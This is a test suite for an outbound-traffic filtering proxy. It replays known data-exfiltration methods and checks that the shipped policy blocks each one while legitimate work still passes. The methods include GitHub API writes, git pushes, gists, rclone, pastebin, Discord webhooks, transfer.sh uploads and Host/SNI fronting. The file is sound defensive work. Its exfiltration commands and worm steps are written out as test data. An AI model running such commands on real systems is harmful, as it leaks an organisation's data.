/**
 * Known ways of taking data out (ATT&CK T1567), with the tools that do it, under the policy that is shipped. Each is played
 * twice: under a policy that allows everything it comes through, so that what stops it is known.
 */
import { createCipheriv, randomBytes as newRandomBytes } from 'node:crypto'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { take } from './channels/client.ts'
import { CANARY, type RequestStep } from './channels/shape.ts'
import { commitRandom, commitText, createWorkTree, git, randomBytes } from './support/git-client.ts'
import { STORE } from './support/lfs-forge.ts'
import type { ProgramResult } from './support/program.ts'
import { by } from './support/behind-weir.ts'
import { byCurl, deniedSince, openStage, REGISTRY, type Stage, withBudget } from './support/scenario-stage.ts'
import { temporaryFolder } from './support/temporary.ts'
import type { TestWeir } from './support/weir.ts'

const API = 'https://api.github.com'
const LEAVES = 'This would leave our organisation.'
const WEBHOOKS = 'Webhooks are closed here.'
const DROPS = 'File drops and paste sites are closed here.'

let stage: Stage

beforeAll(async () => {
  stage = await openStage()
})

afterAll(async () => stage?.close())

type Way = (weir: TestWeir) => Promise<ProgramResult>

interface Denied {
  readonly rule: string
  readonly operation?: string
  /** What its user reads; null where the tool prints no more of a refused CONNECT than that it was refused. */
  readonly says: string | null
}

/** Refused by the shipped policy, with nothing of it at the world; and, without it, seen there. */
async function expectStopped(way: Way, { rule, operation, says }: Denied): Promise<void> {
  const { weir, open, world } = stage
  world.forget()
  const at = weir.records.length
  const { code, stdout, stderr } = await way(weir)
  const text = `${stdout}${stderr}`.replace(/\s+/g, ' ')
  expect(code, text).not.toBe(0)
  expect(text).toContain(says ?? '403')
  // Some look first what is there.
  expect(world.requests().filter((line) => !/^(?:GET|HEAD) /.test(line))).toEqual([])
  expect(world.sightings()).toEqual([])
  const denied = deniedSince(weir, at)
  expect(denied.length).toBeGreaterThan(0)
  for (const record of denied) expect(record['rule.name']).toBe(rule)
  for (const record of denied) expect(record['weir.upstream.bodyBytes'] ?? 0).toBe(0)
  if (operation !== undefined) expect(denied.map((record) => record['weir.operation'])).toContain(operation)
  world.forget()
  await way(open)
  const written = world.requests().filter((line) => !/^(?:GET|HEAD) /.test(line))
  expect(written, 'nothing comes where nothing is refused').not.toEqual([])
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const json = (value: object): readonly string[] => ['-H', 'Content-Type: application/json', '-d', JSON.stringify(value)]
const TOKEN = ['-u', 'mallory:ghp_x'] as const

describe('S1, a script that fills a repository by the API', () => {
  const file = `${API}/repos/mallory/loot/contents/customers.csv`

  it('reads what is there, and may neither delete nor write', async () => {
    stage.world.forget()
    expect((await byCurl(stage.weir, ...TOKEN, file)).code).toBe(0)
    expect(stage.world.requests()).toEqual(['GET api.github.com /repos/mallory/loot/contents/customers.csv'])
    const remove: Way = (weir) => byCurl(weir, ...TOKEN, '-X', 'DELETE', ...json({ message: 'x', sha: CANARY }), file)
    await expectStopped(remove, { rule: 'no-writes-elsewhere', operation: 'file-write', says: LEAVES })
    const content = { path: 'customers.csv', content: base64(CANARY), encoding: 'base64', message: 'Commit at: now' }
    const write: Way = (weir) => byCurl(weir, ...TOKEN, '-X', 'PUT', ...json(content), file)
    await expectStopped(write, { rule: 'no-writes-elsewhere', operation: 'file-write', says: LEAVES })
  })
})

describe('S2, a push', () => {
  it.each([
    ['small', 3_000],
    ['large, in chunks', 3_000_000],
  ])('elsewhere, %s, is refused, and no pack of it leaves', async (_, size) => {
    const { lfs, weir, open } = stage
    const repository = `mallory/loot-${size}`
    await lfs.createRepository(repository)
    const tree = await createWorkTree()
    await commitRandom(tree, size, 'loot')
    const args = ['push', `https://github.com/${repository}.git`, 'main']
    const before = lfs.forge.receivedBytes()
    const pushed = await git(args, { cwd: tree, proxy: weir.proxy, caFile: weir.caFile })
    expect(pushed.code).toBe(1)
    expect(pushed.stderr).toContain('! [remote rejected] main -> main (weir: refused by rule no-writes-elsewhere)')
    expect(pushed.stderr).toContain(LEAVES)
    expect(lfs.forge.receivedBytes() - before).toBeLessThan(1_000)
    const denied = await weir.record(
      (line) => line['weir.repository'] === `github.com/${repository}` && line['event.action'] === 'denied',
    )
    expect(denied).toMatchObject({
      'weir.operation': 'git-push',
      'rule.name': 'no-writes-elsewhere',
      'weir.upstream.bodyBytes': 0,
    })
    expect((await git(args, { cwd: tree, proxy: open.proxy, caFile: open.caFile })).code).toBe(0)
    expect(lfs.forge.receivedBytes() - before).toBeGreaterThan(size)
  })
})

describe('S3, git over SSH', () => {
  const push = async ({ proxy }: TestWeir, remote: string): Promise<ProgramResult> => {
    const tree = await createWorkTree()
    await commitText(tree, 'customers.csv', CANARY)
    const netcat = `nc -X connect -x ${proxy.replace('http://', '')} %h %p`
    const command = `ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o 'ProxyCommand=${netcat}'`
    return git(['push', remote, 'main'], { cwd: tree, env: { GIT_SSH_COMMAND: command } })
  }

  it.each([
    ['at its own port', 'ssh://git@github.com/mallory/loot.git', 22],
    ['at the port of HTTPS', 'ssh://git@ssh.github.com:443/mallory/loot.git', 443],
  ])('%s is refused before anything is said', async (_, remote, port) => {
    const { weir, open } = stage
    const [before, at] = [stage.sshBytes(), weir.records.length]
    const pushed = await push(weir, remote)
    expect(pushed.code).not.toBe(0)
    expect(pushed.stderr).toContain('Proxy error: "HTTP/1.1 403')
    expect(pushed.stderr).toContain('git remote set-url origin https://HOST/OWNER/REPO')
    expect(stage.sshBytes()).toBe(before)
    expect(deniedSince(weir, at)).toMatchObject([{ 'rule.name': 'no-git-over-ssh', 'destination.port': port }])
    await push(open, remote)
    expect(stage.sshBytes()).toBeGreaterThan(before)
  })
})

describe('S4, a worm', () => {
  it('makes no repository, fills none, and makes none of ours public', async () => {
    const create: Way = (weir) =>
      byCurl(weir, ...TOKEN, ...json({ name: 's1ngularity-repository', description: CANARY }), `${API}/user/repos`)
    await expectStopped(create, { rule: 'no-writes-elsewhere', operation: 'repo-create', says: LEAVES })
    const results = `${API}/repos/mallory/s1ngularity-repository/contents/results.b64`
    const fill: Way = (weir) =>
      byCurl(weir, ...TOKEN, '-X', 'PUT', ...json({ message: 'x', content: base64(CANARY) }), results)
    await expectStopped(fill, { rule: 'no-writes-elsewhere', operation: 'file-write', says: LEAVES })
    const publish: Way = (weir) =>
      byCurl(weir, ...TOKEN, '-X', 'PATCH', ...json({ private: false }), `${API}/repos/acme/app`)
    await expectStopped(publish, { rule: 'no-writes-elsewhere', operation: 'repo-visibility', says: LEAVES })
  })
})

describe('S5, a gist', () => {
  it('by its API', async () => {
    const way: Way = (weir) =>
      byCurl(weir, ...TOKEN, ...json({ public: false, files: { a: { content: CANARY } } }), `${API}/gists`)
    await expectStopped(way, { rule: 'no-writes-elsewhere', operation: 'gist-write', says: LEAVES })
  })

  it('by gh', async () => {
    const env = { GH_TOKEN: 'x', GH_NO_UPDATE_NOTIFIER: '1' }
    const way: Way = (weir) => by(weir, 'gh', ['gist', 'create', stage.loot], { env })
    await expectStopped(way, { rule: 'no-writes-elsewhere', operation: 'gist-write', says: LEAVES })
  })
})

it('S6, a file beside a release', async () => {
  const url = 'https://uploads.github.com/repos/mallory/loot/releases/1/assets?name=a.zip'
  const type = ['-H', 'Content-Type: application/zip']
  await expectStopped((weir) => byCurl(weir, ...TOKEN, ...type, '--data-binary', `@${stage.loot}`, url), {
    rule: 'no-writes-elsewhere',
    operation: 'release-upload',
    says: LEAVES,
  })
})

describe('S7, a commit made of its parts', () => {
  it.each([
    ['a blob', 'POST', 'git/blobs', { content: base64(CANARY), encoding: 'base64' }],
    ['a tree', 'POST', 'git/trees', { tree: [{ path: 'a', mode: '100644', type: 'blob', content: CANARY }] }],
    ['a commit', 'POST', 'git/commits', { message: CANARY, tree: 'a'.repeat(40) }],
    ['a ref', 'PATCH', 'git/refs/heads/main', { sha: 'a'.repeat(40), force: true }],
  ])('%s', async (_, method, path, body) => {
    const url = `${API}/repos/mallory/loot/${path}`
    const way: Way = (weir) => byCurl(weir, ...TOKEN, '-X', method, ...json(body), url)
    await expectStopped(way, { rule: 'no-writes-elsewhere', says: LEAVES })
  })

  it('by GraphQL', async () => {
    const query =
      'mutation ($input: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $input) { commit { oid } } }'
    const branch = { repositoryNameWithOwner: 'mallory/loot', branchName: 'main' }
    const additions = [{ path: 'a', contents: base64(CANARY) }]
    const input = { branch, message: { headline: 'x' }, fileChanges: { additions }, expectedHeadOid: 'a'.repeat(40) }
    const way: Way = (weir) => byCurl(weir, ...TOKEN, ...json({ query, variables: { input } }), `${API}/graphql`)
    await expectStopped(way, { rule: 'no-writes-elsewhere', operation: 'file-write', says: LEAVES })
  })
})

async function lfsTree(repository: string): Promise<string> {
  await stage.lfs.createRepository(repository)
  const tree = await createWorkTree()
  await writeFile(join(tree, '.gitattributes'), '*.bin filter=lfs diff=lfs merge=lfs -text\n')
  await git(['lfs', 'install', '--local'], { cwd: tree })
  await git(['remote', 'add', 'origin', `https://github.com/${repository}.git`], { cwd: tree })
  await commitRandom(tree, 50_000, repository.replace('/', '-'))
  return tree
}

it('S8, objects of LFS', async () => {
  const { lfs, weir, open } = stage
  const tree = await lfsTree('mallory/large')
  const before = lfs.store.receivedBytes()
  const at = weir.records.length
  const pushed = await git(['push', 'origin', 'main'], { cwd: tree, proxy: weir.proxy, caFile: weir.caFile })
  expect(pushed.code).not.toBe(0)
  expect(pushed.stderr).toContain(`weir: ${LEAVES}`)
  expect(lfs.store.receivedBytes()).toBe(before)
  expect(deniedSince(weir, at)[0]).toMatchObject({ 'weir.operation': 'lfs-upload', 'rule.name': 'no-writes-elsewhere' })
  expect((await git(['push', 'origin', 'main'], { cwd: tree, proxy: open.proxy, caFile: open.caFile })).code).toBe(0)
  expect(lfs.store.receivedBytes() - before).toBeGreaterThan(50_000)
})

describe('S9, rclone', () => {
  const copy = async (weir: TestWeir, to: string, env: Readonly<Record<string, string>>, flags = '-v') => {
    const cwd = temporaryFolder('rclone')
    await writeFile(join(cwd, 'rclone.conf'), '')
    const words = ['copy', dirname(stage.loot), to, '--config', join(cwd, 'rclone.conf')]
    const retries = ['--retries', '1', '--low-level-retries', '1', '--timeout', '5s', '--contimeout', '5s']
    return by(weir, 'rclone', [...words, ...retries, ...flags.split(' ')], { cwd, env })
  }
  it('to a drive that speaks WebDAV', async () => {
    const env = { RCLONE_WEBDAV_URL: 'https://webdav.pcloud.com/', RCLONE_WEBDAV_VENDOR: 'other' }
    await expectStopped((weir) => copy(weir, ':webdav:DATA', env), { rule: 'no-file-drops', says: DROPS })
  })

  it('to a bucket that data is taken to', async () => {
    const env = {
      RCLONE_S3_PROVIDER: 'Wasabi',
      RCLONE_S3_ENDPOINT: 's3.eu-central-1.wasabisys.com',
      RCLONE_S3_ACCESS_KEY_ID: 'x',
      RCLONE_S3_SECRET_ACCESS_KEY: 'x',
      RCLONE_S3_NO_CHECK_BUCKET: 'true',
      RCLONE_S3_NO_HEAD: 'true',
    }
    const { weir, world } = stage
    world.forget()
    const at = weir.records.length
    const copied = await copy(weir, ':s3:loot', env, '-v --no-traverse')
    expect(copied.code).not.toBe(0)
    expect(`${copied.stdout}${copied.stderr}`).toContain('This bucket is not ours.')
    // It looks first what is there.
    expect(world.requests().filter((line) => !/^(?:GET|HEAD) /.test(line))).toEqual([])
    expect(world.sightings()).toEqual([])
    expect(deniedSince(weir, at)).toMatchObject([{ 'rule.name': 'no-writes-to-buckets', 'weir.upstream.bodyBytes': 0 }])
    world.forget()
    await copy(stage.open, ':s3:loot', env, '-v --no-traverse')
    expect(world.sightings()).not.toEqual([])
  })

  // Debian builds rclone without MEGA: these are the requests that it makes.
  it.each([
    ['commands', 'https://g.api.mega.co.nz/cs?id=1', JSON.stringify([{ a: 'u', s: 24, n: CANARY }]), '403'],
    ['a file', 'https://gfs270n077.userstorage.mega.co.nz/ul/x/0', CANARY, '403'],
    ['commands in the clear', 'http://g.api.mega.co.nz/cs?id=1', JSON.stringify([{ a: 'u', s: 24 }]), '-11'],
    ['a file in the clear', 'http://gfs270n077.userstorage.mega.co.nz/ul/x/0', CANARY, '-11'],
  ])('to MEGA: %s', async (_, url, body, says) => {
    const way: Way = async (weir) => {
      const answer = await byCurl(weir, '-A', 'rclone/v1.60.1', '-d', body, url)
      // MEGA says no in the body of a success.
      return answer.stdout.startsWith('-') ? { ...answer, code: 1 } : answer
    }
    await expectStopped(way, { rule: 'no-file-drops', says })
  })
})

describe('npm', () => {
  it('publishes no package at a code host', async () => {
    const cwd = temporaryFolder('package')
    await writeFile(join(cwd, 'package.json'), '{"name":"@mallory/loot","version":"1.0.0"}')
    await writeFile(join(cwd, 'customers.csv'), CANARY)
    const host = 'npm.pkg.github.com'
    const flags = [
      `--registry=https://${host}/`,
      `--//${host}/:_authToken=x`,
      '--fetch-retries=0',
      '--no-update-notifier',
    ]
    const way: Way = (weir) => by(weir, 'npm', ['publish', ...flags], { cwd })
    await expectStopped(way, { rule: 'no-writes-elsewhere', operation: 'package-publish', says: LEAVES })
  })
})

it('S10, a paste', async () => {
  const args = ['-d', 'api_option=paste', '-d', 'api_dev_key=x', '--data-urlencode', `api_paste_code@${stage.loot}`]
  await expectStopped((weir) => byCurl(weir, ...args, 'https://pastebin.com/api/api_post.php'), {
    rule: 'no-file-drops',
    says: null,
  })
})

describe('S11, a webhook', () => {
  it.each([
    ['a text', json({ content: CANARY })],
    ['a file', ['-F', 'file1=@LOOT']],
  ])('of Discord takes %s', async (_, args) => {
    const words = args.map((word) => word.replace('LOOT', stage.loot))
    for (const [path, says] of [
      ['/api/webhooks/1/token', WEBHOOKS],
      ['/api/v10/webhooks/1/token', WEBHOOKS],
      ['//api/webhooks/1/token', 'refuses what it cannot see'],
    ] as const) {
      const way: Way = (weir) => byCurl(weir, '--path-as-is', ...words, `https://discord.com${path}`)
      await expectStopped(way, { rule: 'no-discord-webhooks', says })
    }
  })

  it.each([
    'https://hooks.slack.com/services/T0/B0/x',
    'https://webhook.site/7f3c',
    'https://api.telegram.org/bot1:x/sendDocument',
  ])('%s is not reached', async (url) => {
    const way: Way = (weir) => byCurl(weir, '-F', `document=@${stage.loot}`, url)
    await expectStopped(way, { rule: 'no-webhooks', says: null })
  })
})

describe('S12, a drop by curl', () => {
  it.each([
    ['--upload-file', ['--upload-file', 'LOOT', 'https://transfer.sh/customers.csv']],
    ['--form', ['-F', 'file=@LOOT', 'https://0x0.st']],
    ['--upload-file in the clear', ['--upload-file', 'LOOT', 'http://transfer.sh/customers.csv']],
  ])('%s', async (_, args) => {
    const words = args.map((word) => word.replace('LOOT', stage.loot))
    const says = words.some((word) => word.startsWith('https')) ? null : DROPS
    await expectStopped((weir) => byCurl(weir, ...words), { rule: 'no-file-drops', says })
  })
})

it('S13, low and slow into what is ours, is stopped by what one person may write in a day', async () => {
  const weir = await stage.start(withBudget('100 kB'))
  try {
    stage.world.forget()
    const answers: string[] = []
    for (let at = 0; at < 8; at++) {
      const content = randomBytes(15_000, `piece ${at}`).toString('base64')
      const url = `${API}/repos/acme/app/contents/piece-${at}`
      const { code, stdout } = await byCurl(weir, ...TOKEN, '-X', 'PUT', ...json({ message: 'x', content }), url)
      answers.push(code === 0 ? 'through' : stdout)
    }
    expect(answers.slice(0, 6)).toEqual(Array.from({ length: 6 }, () => 'through'))
    for (const answer of answers.slice(6)) expect(answer).toContain('this would pass the budget daily')
    expect(stage.world.requests().length).toBe(6)
    // A push is of the same day.
    const tree = await createWorkTree()
    await stage.lfs.createRepository('acme/slow')
    await commitRandom(tree, 15_000, 'slow')
    const push = ['push', 'https://github.com/acme/slow.git', 'main']
    const pushed = await git(push, { cwd: tree, proxy: weir.proxy, caFile: weir.caFile })
    expect(pushed.stderr).toContain('(weir: refused by rule write-to-our-repositories)')
    expect(
      deniedSince(weir, 0).map((line) => [line['weir.reason'], line['rule.name'], line['weir.upstream.bodyBytes']]),
    ).toEqual(Array.from({ length: 3 }, () => ['budget', 'write-to-our-repositories', 0]))
  } finally {
    await weir.close()
  }
})

describe('S14, packed and encrypted', () => {
  const cipher = createCipheriv('aes-256-cbc', newRandomBytes(32), newRandomBytes(16))
  const secret = Buffer.concat([cipher.update(gzipSync(CANARY.repeat(1_000))), cipher.final()])

  it.each([
    ['as a file of the API', `${API}/repos/mallory/loot/contents/a`, 'file-write', 'base64'],
    [
      'as a file beside a release',
      'https://uploads.github.com/repos/mallory/loot/releases/1/assets?name=a',
      'release-upload',
      'raw',
    ],
    ['as a gist', `${API}/gists`, 'gist-write', 'base64'],
  ])('goes nowhere %s', async (_, url, operation, form) => {
    const file = join(temporaryFolder('secret'), 'body')
    const text = secret.toString('base64')
    const body = { message: 'x', content: text, files: { a: { content: text } } }
    await writeFile(file, form === 'raw' ? secret : JSON.stringify(body))
    const method = operation === 'file-write' ? 'PUT' : 'POST'
    const way: Way = (weir) => byCurl(weir, ...TOKEN, '-X', method, '--data-binary', `@${file}`, url)
    await expectStopped(way, { rule: 'no-writes-elsewhere', operation, says: LEAVES })
  })

  it('goes nowhere under a Content-Encoding either', async () => {
    const file = join(temporaryFolder('secret'), 'body.gz')
    await writeFile(file, gzipSync(JSON.stringify({ message: 'x', content: secret.toString('base64') })))
    const coded = ['-H', 'Content-Encoding: gzip', '--data-binary', `@${file}`, `${API}/repos/mallory/loot/contents/a`]
    await expectStopped((weir) => byCurl(weir, ...TOKEN, '-X', 'PUT', ...coded), {
      rule: 'no-writes-elsewhere',
      operation: 'file-write',
      says: LEAVES,
    })
  })
})

describe('S15, one name outside and another inside', () => {
  // At a host that the world answers for.
  const step: RequestStep = { method: 'POST', url: 'https://api.github.com/repos/acme/app/issues', body: CANARY }

  it.each<readonly [string, RequestStep, string]>([
    ['in the SNI than in the CONNECT', { ...step, connect: 'news.example:443' }, 'name-disagrees'],
    [
      'in the CONNECT than in the SNI',
      { ...step, connect: 'api.github.com:443', sni: 'news.example' },
      'name-disagrees',
    ],
    ['in Host than in the SNI', { ...step, headers: ['Host: gist.github.com'] }, 'name-disagrees'],
    ['in the target than in Host', { ...step, target: 'https://gist.github.com/mallory' }, 'malformed'],
    [
      'in one Host than in another',
      { ...step, headers: ['Host: api.github.com', 'Host: gist.github.com'] },
      'malformed',
    ],
  ])('%s', async (_, asked, reason) => {
    const { weir, world } = stage
    world.forget()
    const at = weir.records.length
    const ways = { port: weir.port, worldPort: world.port, ca: await readFile(weir.caFile, 'utf8') }
    expect((await take(ways, asked)).by).not.toBe('through')
    expect([world.requests(), world.sightings()]).toEqual([[], []])
    expect(deniedSince(weir, at).map((line) => line['weir.reason'])).toEqual([reason])
  })

  it('is let through where both agree', async () => {
    const { weir, world } = stage
    const ways = { port: weir.port, worldPort: world.port, ca: await readFile(weir.caFile, 'utf8') }
    expect((await take(ways, step)).by).toBe('through')
  })

  it('with curl, which is led to one host and asks for another', async () => {
    const { weir, world } = stage
    world.forget()
    const at = weir.records.length
    const led = await byCurl(
      weir,
      '-d',
      CANARY,
      '--connect-to',
      'gist.github.com:443:news.example:443',
      'https://gist.github.com/x',
    )
    expect(led.code).not.toBe(0)
    const fronted = await byCurl(weir, '-d', CANARY, '-H', 'Host: gist.github.com', `${API}/repos/acme/app/issues`)
    expect(fronted.code).not.toBe(0)
    expect([world.requests(), world.sightings()]).toEqual([[], []])
    const reasons = deniedSince(weir, at).map((line) => line['weir.reason'])
    expect(reasons).toEqual(['name-disagrees', 'name-disagrees'])
  })
})

describe('S16, the same tools at work', () => {
  const through = () => ({ proxy: stage.weir.proxy, caFile: stage.weir.caFile })

  it('clone what is ours and what is anybody’s, and push to ours, with LFS', async () => {
    const tree = await lfsTree('acme/work')
    await commitText(tree, 'README.md', 'work\n')
    const pushed = await git(['push', 'origin', 'main'], { cwd: tree, ...through() })
    expect(pushed.code, pushed.stderr).toBe(0)
    expect(
      stage.weir.records.some(
        (line) => line['url.domain'] === STORE && line['weir.repository'] === 'github.com/acme/work',
      ),
    ).toBe(true)
    await stage.lfs.createRepository('nodejs/node')
    for (const repository of ['acme/work', 'nodejs/node']) {
      const cloned = await git(['clone', `https://github.com/${repository}.git`, temporaryFolder('clone')], through())
      expect(cloned.code, cloned.stderr).toBe(0)
    }
  })

  it('install a package', async () => {
    const cwd = temporaryFolder('project')
    await mkdir(join(cwd, 'app'))
    await writeFile(
      join(cwd, 'app', 'package.json'),
      '{"name":"app","version":"1.0.0","dependencies":{"tiny":"1.0.0"}}',
    )
    const flags = [`--registry=https://${REGISTRY}/`, '--fetch-retries=0', '--no-update-notifier']
    const installed = await by(stage.weir, 'npm', ['install', ...flags], { cwd: join(cwd, 'app') })
    expect(installed.code, installed.stderr).toBe(0)
    expect(JSON.parse(await readFile(join(cwd, 'app/node_modules/tiny/package.json'), 'utf8'))).toMatchObject({
      name: 'tiny',
    })
  })

  it.each<readonly [string, readonly string[]]>([
    [
      'write a file of ours',
      ['-X', 'PUT', ...json({ message: 'x', content: base64(CANARY) }), `${API}/repos/acme/app/contents/a`],
    ],
    ['open an issue of ours', [...json({ title: 'x' }), `${API}/repos/acme/app/issues`]],
    ['read a gist', [`${API}/gists/1`]],
    ['ask GraphQL', [...json({ query: '{ viewer { login } }' }), `${API}/graphql`]],
    ['take a crate', ['https://crates.io/api/v1/crates/serde/1.0.0/download']],
    ['write in a chat', [...json({ content: 'hello' }), 'https://discord.com/api/v10/channels/1/messages']],
    ['take a file from a bucket', ['https://s3.eu-central-1.wasabisys.com/acme/setup.exe']],
    ['fill in a form at a shop', ['-d', 'colour=red', 'https://shop.example/cart']],
  ])('%s', async (_, args) => {
    stage.world.forget()
    const done = await byCurl(stage.weir, ...args)
    expect(done.code, done.stdout).toBe(0)
    expect(stage.world.requests().length).toBe(1)
  })
})
